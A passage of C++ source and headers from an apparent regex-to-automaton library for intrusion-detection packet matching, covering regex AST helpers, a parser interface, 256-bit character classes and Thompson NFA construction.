  auto n = std::make_shared<Node>();
  n->kind = NodeKind::Alternate;
  n->children = std::move(flat);
  return n;
}

namespace {
NodePtr make_unary(NodeKind kind, NodePtr child) {
  auto n = std::make_shared<Node>();
  n->kind = kind;
  n->children.push_back(std::move(child));
  return n;
}
}  // namespace

NodePtr make_star(NodePtr child) {
  if (!child || child->kind == NodeKind::Empty) return make_empty();
  // X** == X*, (X+)* == X*, (X?)* == X*
  if (child->kind == NodeKind::Star) return child;
  if (child->kind == NodeKind::Plus || child->kind == NodeKind::Optional)
    return make_star(child->children.front());
  return make_unary(NodeKind::Star, std::move(child));
}

NodePtr make_plus(NodePtr child) {
  if (!child || child->kind == NodeKind::Empty) return make_empty();
  if (child->kind == NodeKind::Star) return child;
  return make_unary(NodeKind::Plus, std::move(child));
}

NodePtr make_optional(NodePtr child) {
  if (!child || child->kind == NodeKind::Empty) return make_empty();
  if (child->kind == NodeKind::Star || child->kind == NodeKind::Optional) return child;
  if (child->kind == NodeKind::Plus) return make_star(child->children.front());
  return make_unary(NodeKind::Optional, std::move(child));
}

NodePtr make_repeat(NodePtr child, int min, int max) {
  if (!child || child->kind == NodeKind::Empty) return make_empty();
  if (min == 0 && max < 0) return make_star(std::move(child));
  if (min == 1 && max < 0) return make_plus(std::move(child));
  if (min == 0 && max == 1) return make_optional(std::move(child));
  if (min == 1 && max == 1) return child;
  auto n = make_unary(NodeKind::Repeat, std::move(child));
  // make_unary returns shared_ptr<const Node>; cast locally before publishing.
  auto* mut = const_cast<Node*>(n.get());
  mut->rep_min = min;
  mut->rep_max = max;
  return n;
}

bool nullable(const Node& n) {
  switch (n.kind) {
    case NodeKind::Empty:
      return true;
    case NodeKind::CharSet:
      return false;
    case NodeKind::Concat:
      return std::all_of(n.children.begin(), n.children.end(),
                         [](const NodePtr& c) { return nullable(*c); });
    case NodeKind::Alternate:
      return std::any_of(n.children.begin(), n.children.end(),
                         [](const NodePtr& c) { return nullable(*c); });
    case NodeKind::Star:
    case NodeKind::Optional:
      return true;
    case NodeKind::Plus:
      return nullable(*n.children.front());
    case NodeKind::Repeat:
      return n.rep_min == 0 || nullable(*n.children.front());
  }
  return false;
}

CharClass first_chars(const Node& n) {
  switch (n.kind) {
    case NodeKind::Empty:
      return {};
    case NodeKind::CharSet:
      return n.cc;
    case NodeKind::Concat: {
      CharClass cc;
      for (const auto& c : n.children) {
        cc |= first_chars(*c);
        if (!nullable(*c)) break;
      }
      return cc;
    }
    case NodeKind::Alternate: {
      CharClass cc;
      for (const auto& c : n.children) cc |= first_chars(*c);
      return cc;
    }
    case NodeKind::Star:
    case NodeKind::Plus:
    case NodeKind::Optional:
    case NodeKind::Repeat:
      return first_chars(*n.children.front());
  }
  return {};
}

CharClass last_chars(const Node& n) {
  switch (n.kind) {
    case NodeKind::Empty:
      return {};
    case NodeKind::CharSet:
      return n.cc;
    case NodeKind::Concat: {
      CharClass cc;
      for (auto it = n.children.rbegin(); it != n.children.rend(); ++it) {
        cc |= last_chars(**it);
        if (!nullable(**it)) break;
      }
      return cc;
    }
    case NodeKind::Alternate: {
      CharClass cc;
      for (const auto& c : n.children) cc |= last_chars(*c);
      return cc;
    }
    case NodeKind::Star:
    case NodeKind::Plus:
    case NodeKind::Optional:
    case NodeKind::Repeat:
      return last_chars(*n.children.front());
  }
  return {};
}

CharClass all_chars(const Node& n) {
  switch (n.kind) {
    case NodeKind::Empty:
      return {};
    case NodeKind::CharSet:
      return n.cc;
    default: {
      CharClass cc;
      for (const auto& c : n.children) cc |= all_chars(*c);
      return cc;
    }
  }
}

int max_match_length(const Node& n) {
  switch (n.kind) {
    case NodeKind::Empty:
      return 0;
    case NodeKind::CharSet:
      return 1;
    case NodeKind::Concat: {
      int total = 0;
      for (const auto& c : n.children) {
        const int len = max_match_length(*c);
        if (len < 0) return -1;
        total += len;
      }
      return total;
    }
    case NodeKind::Alternate: {
      int best = 0;
      for (const auto& c : n.children) {
        const int len = max_match_length(*c);
        if (len < 0) return -1;
        best = std::max(best, len);
      }
      return best;
    }
    case NodeKind::Star:
    case NodeKind::Plus:
      return max_match_length(*n.children.front()) == 0 ? 0 : -1;
    case NodeKind::Optional:
      return max_match_length(*n.children.front());
    case NodeKind::Repeat: {
      if (n.rep_max < 0) return max_match_length(*n.children.front()) == 0 ? 0 : -1;
      const int len = max_match_length(*n.children.front());
      return len < 0 ? -1 : len * n.rep_max;
    }
  }
  return -1;
}

int min_match_length(const Node& n) {
  switch (n.kind) {
    case NodeKind::Empty:
      return 0;
    case NodeKind::CharSet:
      return 1;
    case NodeKind::Concat: {
      int total = 0;
      for (const auto& c : n.children) total += min_match_length(*c);
      return total;
    }
    case NodeKind::Alternate: {
      int best = -1;
      for (const auto& c : n.children) {
        const int len = min_match_length(*c);
        if (best < 0 || len < best) best = len;
      }
      return best < 0 ? 0 : best;
    }
    case NodeKind::Star:
    case NodeKind::Optional:
      return 0;
    case NodeKind::Plus:
      return min_match_length(*n.children.front());
    case NodeKind::Repeat:
      return min_match_length(*n.children.front()) * n.rep_min;
  }
  return 0;
}

namespace {

void append_escaped_byte(std::string& out, unsigned char c, bool in_class) {
  switch (c) {
    case '\n': out += "\\n"; return;
    case '\r': out += "\\r"; return;
    case '\t': out += "\\t"; return;
    case '\\': out += "\\\\"; return;
  }
  const std::string meta = in_class ? "]^-" : ".|()[]*+?{}^$";
  if (c >= 0x20 && c < 0x7f) {
    if (meta.find(static_cast<char>(c)) != std::string::npos) out += '\\';
    out += static_cast<char>(c);
    return;
  }
  char buf[8];
  std::snprintf(buf, sizeof buf, "\\x%02x", c);
  out += buf;
}

// Precedence levels for printing: Alternate < Concat < quantified atom.
void print_node(const Node& n, std::string& out, int parent_prec);

void print_quantified(const Node& child, std::string& out, const char* suffix) {
  print_node(child, out, 2);
  out += suffix;
}

void print_node(const Node& n, std::string& out, int parent_prec) {
  const auto wrap = [&](int prec, auto&& body) {
    const bool need = prec < parent_prec;
    if (need) out += "(?:";
    body();
    if (need) out += ')';
  };
  switch (n.kind) {
    case NodeKind::Empty:
      return;
    case NodeKind::CharSet:
      out += n.cc.to_source();
      return;
    case NodeKind::Concat:
      wrap(1, [&] {
        for (const auto& c : n.children) print_node(*c, out, 1);
      });
      return;
    case NodeKind::Alternate:
      wrap(0, [&] {
        for (std::size_t i = 0; i < n.children.size(); ++i) {
          if (i > 0) out += '|';
          print_node(*n.children[i], out, 1);
        }
      });
      return;
    case NodeKind::Star:
      print_quantified(*n.children.front(), out, "*");
      return;
    case NodeKind::Plus:
      print_quantified(*n.children.front(), out, "+");
      return;
    case NodeKind::Optional:
      print_quantified(*n.children.front(), out, "?");
      return;
    case NodeKind::Repeat: {
      char buf[32];
      if (n.rep_max < 0)
        std::snprintf(buf, sizeof buf, "{%d,}", n.rep_min);
      else if (n.rep_min == n.rep_max)
        std::snprintf(buf, sizeof buf, "{%d}", n.rep_min);
      else
        std::snprintf(buf, sizeof buf, "{%d,%d}", n.rep_min, n.rep_max);
      print_quantified(*n.children.front(), out, buf);
      return;
    }
  }
}

}  // namespace

std::string CharClass::to_source() const {
  if (is_all()) return ".";  // reparses identically under the dotall default
  if (count() == 1) {
    std::string out;
    append_escaped_byte(out, first(), /*in_class=*/false);
    return out;
  }
  // Render whichever of the class or its complement has fewer ranges.
  const auto render = [](const CharClass& cc, bool negate) {
    std::string out = negate ? "[^" : "[";
    int run_start = -1;
    int prev = -2;
    const auto flush = [&](int last) {
      if (run_start < 0) return;
      append_escaped_byte(out, static_cast<unsigned char>(run_start), true);
      if (last > run_start) {
        if (last > run_start + 1) out += '-';
        append_escaped_byte(out, static_cast<unsigned char>(last), true);
      }
    };
    cc.for_each([&](unsigned char c) {
      if (static_cast<int>(c) != prev + 1) {
        flush(prev);
        run_start = c;
      }
      prev = c;
    });
    flush(prev);
    out += ']';
    return out;
  };
  const std::string pos = render(*this, false);
  const std::string neg = render(this->negated(), true);
  return neg.size() < pos.size() ? neg : pos;
}

std::string to_source(const Node& n) {
  std::string out;
  print_node(n, out, 0);
  return out;
}

std::string to_source(const Regex& re) {
  return (re.anchored ? "^" : "") + to_source(*re.root);
}

}  // namespace mfa::regex
