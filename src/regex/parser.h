// PCRE-subset regex parser.
//
// Accepts the pattern language used by Snort/Bro-style security rules
// (paper Sec. V-A): literals, escapes, character classes, '.', alternation,
// grouping, the * + ? {n,m} quantifiers and a leading '^' anchor. Patterns
// may be wrapped PCRE-style as /pattern/flags with flags 'i' (case
// insensitive) and 's' (dot matches newline). Errors are reported with byte
// offsets rather than thrown mid-construction so callers can reject a rule
// and continue compiling the rest of a rule set.
#pragma once

#include <optional>
#include <string>
#include <string_view>

#include "regex/ast.h"

namespace mfa::regex {

struct ParseError {
  std::size_t offset = 0;  ///< byte offset into the pattern text
  std::string message;
};

struct ParseResult {
  std::optional<Regex> regex;      ///< set on success
  std::optional<ParseError> error;  ///< set on failure
  [[nodiscard]] bool ok() const { return regex.has_value(); }
};

struct ParseOptions {
  bool icase = false;  ///< default for patterns without /.../i wrapping
  /// DPI convention (and the paper's): '.' matches any payload byte, so
  /// `.*` is a true dot-star separator and `[^\n]*` is the distinct
  /// almost-dot-star form (Sec. IV-A/B). Set false for PCRE-style dot.
  bool dotall = true;
  /// Counted repeats expand by duplication in the NFA; cap the expansion so
  /// a hostile {1000000} cannot exhaust memory.
  int max_counted_repeat = 256;
  /// The parser is recursive-descent, so group nesting consumes C++ stack.
  /// Cap it so a hostile "((((…" pattern gets a parse error instead of a
  /// stack overflow. 100 is far beyond any real DPI rule.
  int max_nesting_depth = 100;
};

/// Parse one pattern. Never throws; syntax problems come back in `error`.
ParseResult parse(std::string_view pattern, const ParseOptions& options = {});

/// Convenience for tests and examples: parse or abort with a message.
Regex parse_or_die(std::string_view pattern, const ParseOptions& options = {});

}  // namespace mfa::regex
