// Random sampling of strings from a regex's language.
//
// Used by the trace generators (to inject attack-like content that real IDS
// traces contain) and by property tests (a sampled string must be accepted
// by every engine built from the same pattern).
#pragma once

#include <string>

#include "regex/ast.h"
#include "util/rng.h"

namespace mfa::regex {

struct SampleOptions {
  int star_max = 3;    ///< Kleene star draws 0..star_max repetitions
  bool prefer_printable = true;  ///< bias char-class draws to printable bytes
};

/// Draw one string from L(node). Deterministic given the Rng state.
std::string sample_match(const Node& node, util::Rng& rng, const SampleOptions& options = {});

inline std::string sample_match(const Regex& re, util::Rng& rng,
                                const SampleOptions& options = {}) {
  return sample_match(*re.root, rng, options);
}

}  // namespace mfa::regex
