// Regex abstract syntax tree.
//
// Nodes are immutable and shared (shared_ptr<const Node>) so the regex
// splitter (Sec. IV, Algorithm 1) can slice a parsed pattern into segment
// sub-regexes without copying subtrees. The tree is deliberately small:
// security patterns only need concatenation, alternation, character sets
// and the counted/uncounted repetition operators.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "regex/charclass.h"

namespace mfa::regex {

enum class NodeKind {
  Empty,      ///< matches the empty string (epsilon)
  CharSet,    ///< matches one byte from `cc`
  Concat,     ///< children in sequence
  Alternate,  ///< any one child
  Star,       ///< child repeated >= 0 times
  Plus,       ///< child repeated >= 1 times
  Optional,   ///< child 0 or 1 times
  Repeat,     ///< child repeated [rep_min, rep_max] times (rep_max < 0: unbounded)
};

struct Node;
using NodePtr = std::shared_ptr<const Node>;

struct Node {
  NodeKind kind = NodeKind::Empty;
  CharClass cc;                   // CharSet only
  std::vector<NodePtr> children;  // Concat/Alternate: n-ary; quantifiers: 1
  int rep_min = 0;                // Repeat only
  int rep_max = -1;               // Repeat only; -1 = unbounded
};

NodePtr make_empty();
NodePtr make_charset(CharClass cc);
NodePtr make_literal(std::string_view text, bool icase = false);
/// Flattens nested Concats and drops Empty children; returns Empty for none.
NodePtr make_concat(std::vector<NodePtr> children);
NodePtr make_alternate(std::vector<NodePtr> children);
NodePtr make_star(NodePtr child);
NodePtr make_plus(NodePtr child);
NodePtr make_optional(NodePtr child);
NodePtr make_repeat(NodePtr child, int min, int max);

/// A parsed pattern. `anchored` corresponds to a leading '^' (Sec. V-A:
/// "S patterns often have an anchored component"); unanchored patterns are
/// matched at any start position by every engine.
struct Regex {
  NodePtr root;
  bool anchored = false;
  std::string source;  ///< original pattern text (diagnostics only)
};

// --- Structural analysis (used by the splitter's safety checks) ---

/// True if the node can match the empty string.
bool nullable(const Node& n);

/// Set of bytes that can begin a non-empty match.
CharClass first_chars(const Node& n);

/// Set of bytes that can end a non-empty match.
CharClass last_chars(const Node& n);

/// Set of all bytes that can appear anywhere in some match.
CharClass all_chars(const Node& n);

/// Upper bound on match length, or -1 if unbounded.
int max_match_length(const Node& n);

/// Exact minimum match length.
int min_match_length(const Node& n);

/// Render back to regex source syntax (reparseable; used in tests/diagnostics).
std::string to_source(const Node& n);
std::string to_source(const Regex& re);

}  // namespace mfa::regex
