// 256-bit character classes over the byte alphabet.
//
// DPI regexes (paper Sec. IV) operate on raw packet bytes, so the alphabet
// is exactly the 256 byte values; a character class is a 256-bit set. The
// almost-dot-star decomposition (Sec. IV-B) needs cheap negation, counting
// (the |X| < 128 size threshold) and intersection tests, all provided here.
#pragma once

#include <array>
#include <cstdint>
#include <string>

namespace mfa::regex {

class CharClass {
 public:
  constexpr CharClass() : words_{} {}

  /// Class containing a single byte.
  static CharClass single(unsigned char c) {
    CharClass cc;
    cc.add(c);
    return cc;
  }

  /// Class containing every byte value.
  static CharClass all() {
    CharClass cc;
    for (auto& w : cc.words_) w = ~0ULL;
    return cc;
  }

  /// Class for the inclusive byte range [lo, hi].
  static CharClass range(unsigned char lo, unsigned char hi) {
    CharClass cc;
    cc.add_range(lo, hi);
    return cc;
  }

  /// PCRE '.' — any byte except '\n' unless dotall ('s' flag) is set.
  static CharClass dot(bool dotall) {
    CharClass cc = all();
    if (!dotall) cc.remove('\n');
    return cc;
  }

  static CharClass digits() { return range('0', '9'); }
  static CharClass word_chars() {
    CharClass cc = range('a', 'z');
    cc |= range('A', 'Z');
    cc |= range('0', '9');
    cc.add('_');
    return cc;
  }
  static CharClass whitespace() {
    CharClass cc;
    for (const char c : {' ', '\t', '\n', '\r', '\f', '\v'})
      cc.add(static_cast<unsigned char>(c));
    return cc;
  }

  void add(unsigned char c) { words_[c >> 6] |= 1ULL << (c & 63); }
  void remove(unsigned char c) { words_[c >> 6] &= ~(1ULL << (c & 63)); }
  void add_range(unsigned char lo, unsigned char hi) {
    for (unsigned v = lo; v <= hi; ++v) add(static_cast<unsigned char>(v));
  }

  [[nodiscard]] bool test(unsigned char c) const {
    return (words_[c >> 6] >> (c & 63)) & 1ULL;
  }

  [[nodiscard]] std::size_t count() const {
    std::size_t n = 0;
    for (const auto w : words_) n += static_cast<std::size_t>(__builtin_popcountll(w));
    return n;
  }

  [[nodiscard]] bool empty() const {
    for (const auto w : words_)
      if (w) return false;
    return true;
  }

  [[nodiscard]] bool is_all() const { return count() == 256; }

  /// Complement within the byte alphabet ([^X] in Sec. IV-B).
  [[nodiscard]] CharClass negated() const {
    CharClass cc;
    for (std::size_t i = 0; i < words_.size(); ++i) cc.words_[i] = ~words_[i];
    return cc;
  }

  CharClass& operator|=(const CharClass& o) {
    for (std::size_t i = 0; i < words_.size(); ++i) words_[i] |= o.words_[i];
    return *this;
  }
  CharClass& operator&=(const CharClass& o) {
    for (std::size_t i = 0; i < words_.size(); ++i) words_[i] &= o.words_[i];
    return *this;
  }

  friend CharClass operator|(CharClass a, const CharClass& b) { return a |= b; }
  friend CharClass operator&(CharClass a, const CharClass& b) { return a &= b; }

  [[nodiscard]] bool intersects(const CharClass& o) const {
    for (std::size_t i = 0; i < words_.size(); ++i)
      if (words_[i] & o.words_[i]) return true;
    return false;
  }

  bool operator==(const CharClass& o) const = default;

  /// Close the class under ASCII case folding (for the /i flag).
  [[nodiscard]] CharClass case_folded() const {
    CharClass cc = *this;
    for (unsigned c = 'a'; c <= 'z'; ++c) {
      if (test(static_cast<unsigned char>(c))) cc.add(static_cast<unsigned char>(c - 32));
      if (test(static_cast<unsigned char>(c - 32))) cc.add(static_cast<unsigned char>(c));
    }
    return cc;
  }

  /// Invoke fn(byte) for every member, ascending.
  template <typename Fn>
  void for_each(Fn&& fn) const {
    for (std::size_t wi = 0; wi < words_.size(); ++wi) {
      std::uint64_t w = words_[wi];
      while (w != 0) {
        const int bit = __builtin_ctzll(w);
        fn(static_cast<unsigned char>(wi * 64 + static_cast<std::size_t>(bit)));
        w &= w - 1;
      }
    }
  }

  /// Lowest member; class must be non-empty.
  [[nodiscard]] unsigned char first() const {
    for (std::size_t wi = 0; wi < words_.size(); ++wi)
      if (words_[wi]) return static_cast<unsigned char>(wi * 64 + __builtin_ctzll(words_[wi]));
    return 0;
  }

  /// Regex-source rendering, e.g. "[a-c\n]"; used by the AST printer.
  [[nodiscard]] std::string to_source() const;

  [[nodiscard]] std::uint64_t hash() const {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    for (const auto w : words_) {
      h ^= w;
      h *= 0x100000001b3ULL;
    }
    return h;
  }

  [[nodiscard]] const std::array<std::uint64_t, 4>& words() const { return words_; }

 private:
  std::array<std::uint64_t, 4> words_;
};

}  // namespace mfa::regex
