#include "nfa/nfa.h"

#include <algorithm>
#include <unordered_map>
#include <unordered_set>

namespace mfa::nfa {

using regex::CharClass;
using regex::Node;
using regex::NodeKind;
using regex::NodePtr;

namespace {

/// Thompson construction workspace with epsilon moves; eliminated before
/// the Nfa is published.
class ThompsonBuilder {
 public:
  std::uint32_t new_state() {
    eps_.emplace_back();
    trans_.emplace_back();
    accept_marks_.emplace_back();
    return static_cast<std::uint32_t>(eps_.size() - 1);
  }

  void add_eps(std::uint32_t from, std::uint32_t to) { eps_[from].push_back(to); }
  void add_trans(std::uint32_t from, const CharClass& cc, std::uint32_t to) {
    trans_[from].push_back(Transition{cc, to});
  }
  void mark_accept(std::uint32_t state, std::uint32_t id) {
    accept_marks_[state].push_back(id);
  }

  /// Build `node` starting from `entry`; returns the exit state.
  std::uint32_t build(const Node& node, std::uint32_t entry) {
    switch (node.kind) {
      case NodeKind::Empty:
        return entry;
      case NodeKind::CharSet: {
        const std::uint32_t exit = new_state();
        add_trans(entry, node.cc, exit);
        return exit;
      }
      case NodeKind::Concat: {
        std::uint32_t cur = entry;
        for (const auto& c : node.children) cur = build(*c, cur);
        return cur;
      }
      case NodeKind::Alternate: {
        const std::uint32_t join = new_state();
        for (const auto& c : node.children) {
          const std::uint32_t exit = build(*c, entry);
          add_eps(exit, join);
        }
        return join;
      }
      case NodeKind::Star: {
        const std::uint32_t hub = new_state();
        add_eps(entry, hub);
        const std::uint32_t exit = build(*node.children.front(), hub);
        add_eps(exit, hub);
        return hub;
      }
      case NodeKind::Plus: {
        const std::uint32_t in = new_state();
        add_eps(entry, in);
        const std::uint32_t body_exit = build(*node.children.front(), in);
        const std::uint32_t out = new_state();
        add_eps(body_exit, out);
        add_eps(out, in);
        return out;
      }
      case NodeKind::Optional: {
        const std::uint32_t exit = build(*node.children.front(), entry);
        const std::uint32_t join = new_state();
        add_eps(entry, join);
        add_eps(exit, join);
        return join;
      }
      case NodeKind::Repeat: {
        const Node& child = *node.children.front();
        std::uint32_t cur = entry;
        for (int i = 0; i < node.rep_min; ++i) cur = build(child, cur);
        if (node.rep_max < 0) {
          // Trailing unbounded tail: child*
          const std::uint32_t hub = new_state();
          add_eps(cur, hub);
          const std::uint32_t exit = build(child, hub);
          add_eps(exit, hub);
          return hub;
        }
        // (child?){max-min}: collect all intermediate exits into a join.
        std::vector<std::uint32_t> exits{cur};
        for (int i = node.rep_min; i < node.rep_max; ++i) {
          cur = build(child, cur);
          exits.push_back(cur);
        }
        const std::uint32_t join = new_state();
        for (const std::uint32_t e : exits) add_eps(e, join);
        return join;
      }
    }
    return entry;
  }

  /// Compute transitive epsilon closure of every state (includes self).
  [[nodiscard]] std::vector<std::vector<std::uint32_t>> closures() const {
    const std::size_t n = eps_.size();
    std::vector<std::vector<std::uint32_t>> out(n);
    std::vector<std::uint32_t> stack;
    std::vector<bool> seen(n);
    for (std::uint32_t s = 0; s < n; ++s) {
      std::fill(seen.begin(), seen.end(), false);
      stack.assign(1, s);
      seen[s] = true;
      while (!stack.empty()) {
        const std::uint32_t t = stack.back();
        stack.pop_back();
        out[s].push_back(t);
        for (const std::uint32_t u : eps_[t]) {
          if (!seen[u]) {
            seen[u] = true;
            stack.push_back(u);
          }
        }
      }
      std::sort(out[s].begin(), out[s].end());
    }
    return out;
  }

  std::vector<std::vector<std::uint32_t>> eps_;
  std::vector<std::vector<Transition>> trans_;
  std::vector<std::vector<std::uint32_t>> accept_marks_;
};

/// Merge transitions that share a target by unioning their labels.
void coalesce(std::vector<Transition>& ts) {
  std::sort(ts.begin(), ts.end(),
            [](const Transition& a, const Transition& b) { return a.target < b.target; });
  std::vector<Transition> merged;
  for (const auto& t : ts) {
    if (!merged.empty() && merged.back().target == t.target) {
      merged.back().cc |= t.cc;
    } else {
      merged.push_back(t);
    }
  }
  ts = std::move(merged);
}

}  // namespace

Nfa build_nfa(const std::vector<PatternInput>& patterns) {
  ThompsonBuilder tb;
  const std::uint32_t start = tb.new_state();
  std::uint32_t max_id = 0;

  // One shared any-byte prefix hub serves every unanchored pattern: matches
  // may begin anywhere in the stream, and sharing the hub keeps it a single
  // always-active state instead of one per pattern (which would bloat every
  // subset during DFA construction).
  std::uint32_t shared_hub = UINT32_MAX;
  for (const auto& p : patterns) {
    max_id = std::max(max_id, p.id);
    std::uint32_t entry = start;
    if (!p.regex.anchored) {
      if (shared_hub == UINT32_MAX) {
        shared_hub = tb.new_state();
        tb.add_eps(start, shared_hub);
        tb.add_trans(shared_hub, CharClass::all(), shared_hub);
      }
      entry = shared_hub;
    }
    const std::uint32_t exit = tb.build(*p.regex.root, entry);
    tb.mark_accept(exit, p.id);
  }

  // Epsilon elimination: the eps-free transition/accept sets of a state are
  // the unions over its closure.
  const auto closures = tb.closures();
  const std::size_t n = closures.size();
  std::vector<std::vector<Transition>> free_trans(n);
  std::vector<std::vector<std::uint32_t>> free_accepts(n);
  for (std::size_t s = 0; s < n; ++s) {
    for (const std::uint32_t t : closures[s]) {
      for (const auto& tr : tb.trans_[t]) {
        // The transition target itself must absorb its own closure's
        // transitions later; targets here point at Thompson states whose
        // closure is applied when *their* row is built, so redirecting is
        // unnecessary — but accepts reached by epsilon from the target must
        // be credited to the target's row, which the loop below handles.
        free_trans[s].push_back(tr);
      }
      for (const std::uint32_t id : tb.accept_marks_[t]) free_accepts[s].push_back(id);
    }
    coalesce(free_trans[s]);
    std::sort(free_accepts[s].begin(), free_accepts[s].end());
    free_accepts[s].erase(std::unique(free_accepts[s].begin(), free_accepts[s].end()),
                          free_accepts[s].end());
  }

  // Prune states unreachable from the start (epsilon-only intermediates).
  std::vector<std::uint32_t> remap(n, UINT32_MAX);
  std::vector<std::uint32_t> order;
  order.push_back(start);
  remap[start] = 0;
  for (std::size_t i = 0; i < order.size(); ++i) {
    for (const auto& tr : free_trans[order[i]]) {
      if (remap[tr.target] == UINT32_MAX) {
        remap[tr.target] = static_cast<std::uint32_t>(order.size());
        order.push_back(tr.target);
      }
    }
  }

  Nfa nfa;
  nfa.start_ = 0;
  nfa.max_match_id_ = max_id;
  nfa.transitions_.resize(order.size());
  nfa.accepts_.resize(order.size());
  for (std::size_t i = 0; i < order.size(); ++i) {
    const std::uint32_t old = order[i];
    auto& row = nfa.transitions_[i];
    row = std::move(free_trans[old]);
    for (auto& tr : row) tr.target = remap[tr.target];
    coalesce(row);
    nfa.accepts_[i] = std::move(free_accepts[old]);
  }
  return nfa;
}

std::size_t Nfa::memory_image_bytes() const {
  // Compact on-disk-style encoding: per state an 8-byte header, per
  // transition one (lo, hi, target) triple per contiguous byte range, and
  // 4 bytes per accept id.
  std::size_t bytes = 0;
  for (std::uint32_t s = 0; s < state_count(); ++s) {
    bytes += 8;
    for (const auto& t : transitions_[s]) {
      std::size_t ranges = 0;
      int prev = -2;
      t.cc.for_each([&](unsigned char c) {
        if (static_cast<int>(c) != prev + 1) ++ranges;
        prev = c;
      });
      bytes += ranges * 6;
    }
    bytes += accepts_[s].size() * 4;
  }
  return bytes;
}

std::vector<regex::CharClass> Nfa::distinct_labels() const {
  std::vector<regex::CharClass> labels;
  std::unordered_set<std::uint64_t> seen;
  for (const auto& row : transitions_) {
    for (const auto& t : row) {
      if (seen.insert(t.cc.hash()).second) labels.push_back(t.cc);
    }
  }
  return labels;
}

Nfa::Context Nfa::make_context() const {
  Context ctx;
  const std::size_t words = (state_count() + 63) / 64;
  ctx.current.resize(words);
  ctx.next.resize(words);
  ctx.seen_stamp.assign(max_match_id() + 1, 0);
  reset(ctx);
  return ctx;
}

void Nfa::reset(Context& ctx) const {
  std::fill(ctx.current.begin(), ctx.current.end(), 0);
  std::fill(ctx.next.begin(), ctx.next.end(), 0);
  std::fill(ctx.seen_stamp.begin(), ctx.seen_stamp.end(), 0);
  ctx.current[start_ >> 6] |= 1ULL << (start_ & 63);
}

MatchVec NfaScanner::scan(const std::uint8_t* data, std::size_t size) {
  reset();
  CollectingSink sink;
  feed(data, size, 0, sink);
  return std::move(sink.matches);
}

}  // namespace mfa::nfa
