// Epsilon-free NFA: the foundation automaton (paper Sec. I-A).
//
// Every pattern set first becomes one multi-pattern NFA; the NFA is both a
// baseline engine in its own right (small image, slow matching — Sec. V)
// and the input to subset construction for the DFA/MFA/HFA/XFA engines.
// We build a Thompson automaton with epsilon moves internally and eliminate
// them before publishing, so downstream consumers never see epsilons.
#pragma once

#include <algorithm>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "regex/ast.h"
#include "util/match.h"

namespace mfa::nfa {

/// One labelled transition: on any byte in `cc`, move to `target`.
struct Transition {
  regex::CharClass cc;
  std::uint32_t target = 0;
};

/// A pattern to compile: regex plus the match id it reports.
struct PatternInput {
  regex::Regex regex;
  std::uint32_t id = 0;
};

class Nfa {
 public:
  /// Stable engine label used by telemetry exporters and bench reports.
  static constexpr const char* kEngineName = "nfa";

  [[nodiscard]] std::uint32_t state_count() const {
    return static_cast<std::uint32_t>(transitions_.size());
  }
  [[nodiscard]] std::uint32_t start() const { return start_; }
  [[nodiscard]] const std::vector<Transition>& transitions_from(std::uint32_t s) const {
    return transitions_[s];
  }
  /// Match ids reported when state `s` is active (sorted, unique).
  [[nodiscard]] const std::vector<std::uint32_t>& accepts(std::uint32_t s) const {
    return accepts_[s];
  }
  [[nodiscard]] std::uint32_t max_match_id() const { return max_match_id_; }

  /// Estimated in-memory image: transitions as (range lo, range hi, target)
  /// triples plus accept lists — the compact encoding the paper's NFA sizes
  /// (0.1–0.5 MB, Fig. 2) correspond to.
  [[nodiscard]] std::size_t memory_image_bytes() const;

  /// Union of all transition labels; used for byte-class computation.
  [[nodiscard]] std::vector<regex::CharClass> distinct_labels() const;

  // --- Engine/Context split (uniform API across all six engines) ---
  // The Nfa is the immutable, shareable Engine; the per-flow Context is the
  // active-state bitset plus per-id dedup stamps. `next` is scratch for the
  // simulation step — it lives in the Context (not the Engine) so one Nfa
  // can serve many threads without interior mutability.

  // No InlineContext API: the active-state bitset is proportional to the
  // automaton, never hot-slot sized, so the tiered flow table keeps NFA
  // contexts in its cold tier (see flow/tiered.h).
  struct Context {
    std::vector<std::uint64_t> current;
    std::vector<std::uint64_t> next;        ///< scratch for the step
    std::vector<std::uint64_t> seen_stamp;  ///< per id: 1 + last reported end offset
  };

  [[nodiscard]] Context make_context() const;
  void reset(Context& ctx) const;

  /// Lowest active NFA state, or state_count() when the set is empty —
  /// a representative single state so the profiler's state-visit sampling
  /// has a uniform hook even though NFA flow state is a whole bitset.
  [[nodiscard]] std::uint32_t context_state(const Context& ctx) const {
    for (std::size_t w = 0; w < ctx.current.size(); ++w)
      if (ctx.current[w] != 0)
        return static_cast<std::uint32_t>(
            w * 64 + static_cast<std::size_t>(__builtin_ctzll(ctx.current[w])));
    return state_count();
  }

  /// Bytes of per-flow state (the active-state bitset) — the NFA's weakness
  /// for flow multiplexing that Sec. II-C discusses for FPGA solutions.
  [[nodiscard]] std::size_t context_bytes() const {
    return ((state_count() + 63) / 64) * sizeof(std::uint64_t);
  }

  /// Feed a chunk through `ctx`; `base` is the stream offset of data[0].
  /// Emits sink(id, end_offset) once per (id, position). Thread-safe for
  /// concurrent calls with distinct contexts.
  template <typename Sink>
  void feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
            Sink&& sink) const;

 private:
  friend Nfa build_nfa(const std::vector<PatternInput>& patterns);
  std::uint32_t start_ = 0;
  std::uint32_t max_match_id_ = 0;
  std::vector<std::vector<Transition>> transitions_;
  std::vector<std::vector<std::uint32_t>> accepts_;
};

/// Compile a pattern set into one epsilon-free multi-pattern NFA.
/// Unanchored patterns get an implicit `.{0,}` (any byte) prefix so matches
/// may start anywhere; anchored patterns start only at offset 0.
Nfa build_nfa(const std::vector<PatternInput>& patterns);

/// Back-compat wrapper over the Engine/Context split: the paper's NFA
/// baseline interface (compact image, per-byte cost proportional to active
/// states), implemented as an engine pointer plus one owned Context.
class NfaScanner {
 public:
  explicit NfaScanner(const Nfa& nfa) : nfa_(&nfa), ctx_(nfa.make_context()) {}

  void reset() { nfa_->reset(ctx_); }

  /// Feed a chunk; `base` is the stream offset of data[0]. Emits
  /// sink(id, end_offset) once per (id, position).
  template <typename Sink>
  void feed(const std::uint8_t* data, std::size_t size, std::uint64_t base, Sink&& sink) {
    nfa_->feed(ctx_, data, size, base, sink);
  }

  /// Convenience: scan a whole buffer from offset 0 after reset().
  MatchVec scan(const std::uint8_t* data, std::size_t size);
  MatchVec scan(const std::string& data) {
    return scan(reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

